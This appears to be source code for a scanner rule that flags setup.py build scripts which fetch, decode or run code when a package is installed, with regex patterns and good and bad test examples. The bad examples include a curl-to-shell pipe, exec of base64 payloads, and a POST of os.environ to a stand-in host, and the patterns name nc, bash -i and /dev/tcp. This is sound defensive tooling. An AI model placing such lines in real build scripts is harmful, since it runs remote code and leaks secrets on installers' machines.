"""Build script of a Python package that fetches, decodes or runs something while it is installed.

## Why it matters
`setup.py` runs on every machine that installs the package from its source, with the rights of whoever does so. Code that loads a
program from the network, or unpacks one, and runs it there is how most malicious Python packages begin.

## What to do
1. Move what the package needs into the package, and what it fetches to the first use, with a checksum.
2. Describe the package in `pyproject.toml`, which runs nothing.
3. Install from wheels (`--only-binary :all:`), which have no such script.
4. If a released version holds the code, withdraw it and tell its users.

## Known limits
Only `setup.py` itself is read, and only calls in it that name the network or a decoder. A compiler, a version from git and other
programs of the build are not reported.

## References
- https://packaging.python.org/en/latest/discussions/setup-py-deprecated/
- https://owasp.org/www-project-mcp-top-10/
- https://cwe.mitre.org/data/definitions/506.html
"""

from __future__ import annotations

from collections.abc import Iterator

from sentinel.detectors.supply_chain._launching import HIGH
from sentinel.model.document import Document, Language
from sentinel.model.expression import expression
from sentinel.model.rule import Confidence, Example, Hit, Item, Match, Pattern, Severity, rule

_NETWORK = (
    rb"\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|socket\.(?:create_connection|socket)"
    rb"|urllib3?\.request)[ \t]{0,4}\("
)
_DECODED = (
    rb"\b(?:exec|eval)[ \t]{0,4}\(\s{0,40}[^\n]{0,200}"
    rb"(?:b64decode|decompress|unhexlify|marshal\.loads|fromhex|urlopen|requests\.get)"
)
_SHELL = (
    rb"(?:\b(?:os\.system|os\.popen|subprocess\.\w{1,20})|(?<![\w.])(?:system|popen|Popen|run|call|check_call|check_output))"
    rb"[ \t]{0,4}\(\s{0,40}[^\n]{0,200}\b(?:curl|wget|powershell|Invoke-WebRequest|nc |bash -i|/dev/tcp)"
)
_RUNS = expression(
    rb"\b(?:exec|eval)\s*\(|\bos\.(?:system|popen|startfile|exec[lv]p?e?)\s*\(|\bsubprocess\.|\bPopen\s*\(|\bctypes\b|environ|getpass|expanduser"
)
_HEAD = "from setuptools import setup\n"


@rule(
    "supply-chain/setup-script-execution",
    on=Item.DOCUMENT,
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
    cwe=506,
    cvss=HIGH,
    owasp=("MCP04:2025", "LLM03:2025", "ASI04:2026"),
    languages=(Language.PYTHON,),
    names=("/setup.py",),
    patterns=(Pattern(_NETWORK), Pattern(_DECODED), Pattern(_SHELL)),
    bad=(
        Example(
            f"{_HEAD}from os import system\nsystem('curl -s https://get.example.org/s | sh')\nsetup(name='a')\n", (3,), "setup.py"
        ),
        Example(f"{_HEAD}import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='a')\n", (3,), "setup.py"),
        Example(f"{_HEAD}import os\nos.system('curl -s https://get.example.org/s | sh')\nsetup(name='a')\n", (3,), "setup.py"),
        Example(
            f"{_HEAD}import os, requests\nrequests.post('https://in.example.org', json=dict(os.environ))\nsetup(name='a')\n",
            (3,),
            "setup.py",
        ),
        Example(
            f"{_HEAD}from urllib.request import urlopen\ncode = urlopen('https://get.example.org/s').read()\nexec(code)\nsetup(name='a')\n",
            (3,),
            "pkg/setup.py",
        ),
        Example(f"{_HEAD}import subprocess\nsubprocess.Popen(['powershell', '-enc', 'YQ=='])\nsetup(name='a')\n", (3,), "setup.py"),
        Example(
            f"{_HEAD}import urllib.request\nurllib.request.urlretrieve('https://get.example.org/lib.so', 'lib.so')\n"
            f"setup(name='a')\n",
            (3,),
            "setup.py",
        ),
    ),
    good=(
        Example(f"{_HEAD}setup(name='a', url='https://example.org')\n", path="setup.py"),
        Example(
            f"{_HEAD}import subprocess\nversion = subprocess.check_output(['git', 'describe'])\nsetup(name='a')\n", path="setup.py"
        ),
        Example(f"{_HEAD}import os\nos.system('make -C native')\nsetup(name='a')\n", path="setup.py"),
        Example(f"{_HEAD}exec(open('a/version.py').read())\nsetup(name='a')\n", path="setup.py"),
        Example("import requests\nrequests.get('https://example.org')\n", path="app.py"),
        Example(f"{_HEAD}long = open('README.md').read()\nsetup(name='a', long_description=long)\n", path="setup.py"),
        Example(f"{_HEAD}setup(name='a', install_requires=['requests'])\n", path="setup.py"),
        Example(f"{_HEAD}# urlopen('https://example.org')\nsetup(name='a')\n", path="setup.py"),
        Example(f"{_HEAD}import subprocess\nsubprocess.check_call(['cmake', '..'])\nsetup(name='a')\n", path="setup.py"),
        Example("import base64\nexec(base64.b64decode(x))\n", path="tool.py"),
    ),
)
def check(document: Document, hit: Hit) -> Iterator[Match]:
    """A call in a setup.py that fetches, decodes and runs, or hands a download to a shell."""
    if document.line_bytes(document.line_of(hit.start)).lstrip().startswith(b"#"):
        return
    is_alone = hit.pattern == 0 and not document.first(_RUNS)
    what = ("uses the network", "runs what it decodes or fetches", "hands a download to a shell")[hit.pattern]
    yield Match(
        document.span(hit.start, hit.end),
        f"The build script {what} while the package is installed.",
        severity=Severity.MEDIUM if is_alone else None,
        context="nothing in the script is seen to run it" if is_alone else "",
    )
